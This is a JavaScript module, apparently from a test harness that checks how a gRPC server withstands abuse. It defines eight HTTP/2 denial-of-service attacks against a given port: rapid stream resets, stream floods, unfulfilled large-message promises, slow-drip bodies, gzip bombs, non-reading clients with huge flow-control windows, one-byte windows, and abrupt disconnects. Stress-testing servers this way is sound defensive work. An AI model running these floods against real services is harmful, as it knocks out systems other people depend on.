// Attacks with calls: too many, too slow, too large, never read.
'use strict';

const zlib = require('node:zlib');
const wire = require('../wire/frames');
const { frame, outputRequest } = require('../wire/protobuf');
const { crowd, flood, pause } = require('./attacker');

const AttackMs = 1000;
const FrameBytes = 16384;
const path = (method) => `/grpc.testing.TestService/${method}`;
const duplexCall = wire.grpcRequest(path('FullDuplexCall'));
const unaryCall = wire.grpcRequest(path('UnaryCall'));
const gzipCall = wire.grpcRequest(path('UnaryCall'), { 'grpc-encoding': 'gzip' });
const streamId = (i) => 2 * i + 1;

/** The frames of a body. */
function body(id, bytes) {
  const frames = [];
  for (let at = 0; at < bytes.length; at += FrameBytes) {
    const isLast = at + FrameBytes >= bytes.length;
    frames.push(wire.data(id, bytes.subarray(at, at + FrameBytes), isLast ? wire.Flag.END_STREAM : 0));
  }
  return Buffer.concat(frames);
}

module.exports = {
  'rapid-reset': ({ port }) => crowd(port, 4, {}, async (attackers) => {
    await Promise.all(attackers.map((attacker) => flood(attacker, 20000, AttackMs, (i) =>
      Buffer.concat([wire.headers(streamId(i), duplexCall), wire.reset(streamId(i), 8)]))));
  }),
  'thousands-of-streams': ({ port }) => crowd(port, 10, {}, async (attackers) => {
    await Promise.all(attackers.map((attacker) =>
      flood(attacker, 2000, AttackMs, (i) => wire.headers(streamId(i), duplexCall))));
    await pause(AttackMs / 2);
  }),
  'promised-messages': ({ port }) => crowd(port, 4, {}, async (attackers) => {
    // Each head promises four megabytes that never come: nobody may reserve them.
    const head = frame(Buffer.alloc(0), 0, 4 << 20);
    await Promise.all(attackers.map((attacker) => flood(attacker, 500, AttackMs, (i) =>
      Buffer.concat([wire.headers(streamId(i), unaryCall), wire.data(streamId(i), head)]))));
    await pause(AttackMs / 2);
  }),
  'slow-bodies': ({ port }) => crowd(port, 100, {}, async (attackers) => {
    const bytes = frame(Buffer.alloc(1000));
    for (const { socket } of attackers) socket.write(wire.headers(1, unaryCall));
    for (let i = 0; i < AttackMs / 20; i++) {
      for (const { socket } of attackers) socket.write(wire.data(1, bytes.subarray(i, i + 1)));
      await pause(20);
    }
  }),
  'gzip-bombs': ({ port }) => crowd(port, 5, {}, async (attackers) => {
    const bomb = frame(zlib.gzipSync(Buffer.alloc(32 << 20)), 1);
    await Promise.all(attackers.map((attacker) => flood(attacker, 20, AttackMs, (i) =>
      Buffer.concat([wire.headers(streamId(i), gzipCall), body(streamId(i), bomb)]))));
    await pause(AttackMs / 2);
  }),
  'never-reads': ({ port }) => {
    // Windows wide open, so that only the server itself can stop at what nobody reads.
    const settings = { 4: 0x7fffffff };
    return crowd(port, 5, { reads: false, settings }, async (attackers) => {
      const request = body(1, frame(outputRequest(Array.from({ length: 100 }, () => 1 << 20))));
      for (const { socket } of attackers) {
        socket.write(Buffer.concat([wire.windowUpdate(0, 0x7fff0000),
          wire.headers(1, wire.grpcRequest(path('StreamingOutputCall'))), request]));
      }
      await pause(AttackMs);
    });
  },
  'windows-of-one-byte': ({ port }) => crowd(port, 20, { settings: { 4: 1 } }, async (attackers) => {
    const request = body(1, frame(outputRequest([1 << 20])));
    for (const { socket } of attackers)
      socket.write(Buffer.concat([wire.headers(1, wire.grpcRequest(path('StreamingOutputCall'))), request]));
    await pause(AttackMs);
  }),
  'calls-and-gone': ({ port }) => crowd(port, 100, {}, async (attackers) => {
    for (const { socket } of attackers) {
      socket.write(Buffer.concat(Array.from({ length: 20 }, (_, i) => wire.headers(streamId(i), duplexCall))));
    }
    await pause(200);
    for (const { socket } of attackers) socket.resetAndDestroy();
  }),
};
